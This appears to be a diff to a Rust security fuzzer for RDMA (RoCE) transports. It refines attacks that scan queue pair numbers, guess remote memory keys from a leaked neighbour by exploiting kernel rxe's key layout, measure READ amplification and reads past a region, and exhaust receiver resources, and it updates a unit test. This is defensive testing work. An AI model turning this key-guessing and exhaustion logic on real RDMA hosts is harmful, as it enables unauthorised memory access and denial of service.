@@ -103,7 +103,7 @@ pub const ATTACKS: &[(&str, &str, AttackFn)] = &[
     ("psn-sweep", "QPN, rkey, va; not the PSN", psn_sweep),
     (
         "rkey-guess",
-        "QPN, PSN, va and another key of the process (the private region's)",
+        "QPN, PSN, va and another key of the process (the private region's; if that is 0, its own region's on a connection just before)",
         rkey_guess,
     ),
     (
@@ -326,24 +326,29 @@ fn qpn_scan(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
             Some(AethSyndrome::Nak(NakCode::PsnSequenceError)) => ans.psn.wrapping_sub(1),
             _ => ans.psn,
         };
-        for &c in &last.clone() {
+        for &c in &last {
             let Some(mut p) = a.req(Opcode::RC_SEND_ONLY, dup) else {
                 break;
             };
+            if a.left() == 0 {
+                break;
+            }
             p.dest = Dest::Raw(c);
             a.send(&p);
-            if !a.answers(SURE_US).is_empty() {
+            if a.answers(SURE_US).is_empty() {
+                continue;
+            }
+            if c == a.conn.qpn {
                 a.observe()?;
-                let hit = if c == a.conn.qpn {
-                    ""
-                } else {
-                    " (not the fuzzed QP)"
-                };
                 return Ok(Some(format!(
-                    "QPN {c:#x} answers{hit}, found {} QPNs away from the attacker's",
+                    "QPN {c:#x} answers, found {} QPNs away from the attacker's",
                     own.abs_diff(c)
                 )));
             }
+            // Another QP of the target's that takes the fuzzer as its
+            // peer: not the one sought, the scan goes on.
+            a.notes.push(format!("QPN {c:#x} answers too"));
+            break;
         }
     }
     a.observe()?;
@@ -406,20 +411,25 @@ fn psn_sweep(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
 /// Guesses of a key near a leaked one: first neighbours at strides keys
 /// are commonly handed out with; then keys made of a neighbouring index
 /// in the upper 24 bits and any byte in the lower 8 (kernel rxe's layout:
-/// MR index << 8 | an 8-bit random key), index +-1, +-2, ...; then the
-/// strides again, further out.
+/// MR index << 8 | an 8-bit random key), index +1 ... +8 (keys handed
+/// out later are higher), then -1 ... -8; then the strides again, further
+/// out.
 fn rkey_guesses(leaked: u32) -> impl Iterator<Item = u32> {
     const STRIDES: [u32; 6] = [1, 0x100, 0x80, 0x1000, 0x10000, 0x100_0000];
     let near = STRIDES.into_iter();
     let index = (1u32..=8).flat_map(move |k| {
-        [k.wrapping_mul(0x100), k.wrapping_neg().wrapping_mul(0x100)]
-            .into_iter()
-            .flat_map(move |d| (0..=0xffu32).map(move |b| (leaked.wrapping_add(d) & !0xff) | b))
+        let d = k.wrapping_mul(0x100);
+        (0..=0xffu32).map(move |b| (leaked.wrapping_add(d) & !0xff) | b)
+    });
+    let below = (1u32..=8).flat_map(move |k| {
+        let d = k.wrapping_mul(0x100);
+        (0..=0xffu32).map(move |b| (leaked.wrapping_sub(d) & !0xff) | b)
     });
     let far = (2u32..=0x400).flat_map(|k| STRIDES.into_iter().map(move |s| k.wrapping_mul(s)));
     let mut seen = BTreeSet::from([leaked]);
     near.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)])
         .chain(index)
+        .chain(below)
         .chain(far.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)]))
         .filter(move |g| seen.insert(*g))
 }
@@ -431,20 +441,27 @@ fn rkey_guesses(leaked: u32) -> impl Iterator<Item = u32> {
 /// dropped silently and the guessing goes on.
 fn rkey_guess(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     a.fresh()?;
-    let right = rkey_guesses(a.conn.private_rkey)
+    let mut leaked = a.conn.private_rkey;
+    if leaked == 0 {
+        // No key to leak there (rxe gives a region without remote
+        // access rkey 0): the key of a connection of the attacker's own,
+        // set up just before the victim's.
+        leaked = a.conn.rkey;
+        a.fresh()?;
+        a.notes
+            .push("leak: the key of a connection just before".into());
+    }
+    let right = rkey_guesses(leaked)
         .take(1 << 16)
         .position(|g| g == a.conn.rkey)
         .map_or("not among the first 65536 guesses".into(), |i| {
             format!("guess {}", i + 1)
         });
-    let right = format!(
-        "{right}; leaked {:#x}, right {:#x}",
-        a.conn.private_rkey, a.conn.rkey
-    );
+    let right = format!("{right}; leaked {:#x}, right {:#x}", leaked, a.conn.rkey);
     let mut psn = a.conn.rq_psn;
     let mut n = 0u64;
     let mut why = String::new();
-    for g in rkey_guesses(a.conn.private_rkey) {
+    for g in rkey_guesses(leaked) {
         if a.left() == 0 {
             break;
         }
@@ -593,7 +610,10 @@ fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetErro
         .map(|x| x.bytes)
         .sum();
     let factor = got as f64 / sent.max(1) as f64;
-    let over = a.read(psn.wrapping_add(len.div_ceil(mtu)) & 0xff_ffff, len + 1);
+    let over = a.read(
+        psn.wrapping_add(len.div_ceil(mtu)) & 0xff_ffff,
+        len.saturating_add(1),
+    );
     if let Some(p) = over {
         a.send(&p);
     }
@@ -606,7 +626,7 @@ fn read_amplification(a: &mut Attacker<'_>) -> Result<Option<String>, TargetErro
     a.observe()?;
     let text = format!(
         "READ of {len} B: {got} B answered for {sent} B sent, {factor:.0}x; READ of {} B: {}{}",
-        len + 1,
+        len.saturating_add(1),
         tally(&over_ans),
         if over_got > 0 {
             " (answered past the region!)"
@@ -639,7 +659,7 @@ fn exhaustion(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
         psn = psn.wrapping_add(1) & 0xff_ffff;
     }
     let ans_r = tally(&a.answers(SURE_US));
-    let sends = n.min(a.left() as u32);
+    let sends = n.min(u32::try_from(a.left()).unwrap_or(u32::MAX));
     for _ in 0..sends {
         let Some(mut p) = a.req(Opcode::RC_SEND_ONLY, psn) else {
             break;
@@ -861,11 +881,12 @@ mod tests {
             [("rkey-guess", Succeeded), ("exhaustion", Succeeded)]
         );
         assert_eq!(r[0].packets, 1, "{:?}", r[0]);
-        // Keys laid out as rxe's (index << 8 | a random byte): a key two
-        // indexes up is within 1024 guesses.
+        // Keys laid out as rxe's (index << 8 | a random byte): a key three
+        // indexes up (the agent registers three regions a connection) is
+        // within 1024 guesses.
         let g: Vec<u32> = rkey_guesses(0x1234_5607).take(1024).collect();
         assert!(
-            g.contains(&0x1234_5833) && g.contains(&0x1234_55ff),
+            g.contains(&0x1234_5900) && g.contains(&0x1234_59ff),
             "{g:x?}"
         );
         assert_eq!(g.len(), g.iter().collect::<BTreeSet<_>>().len());
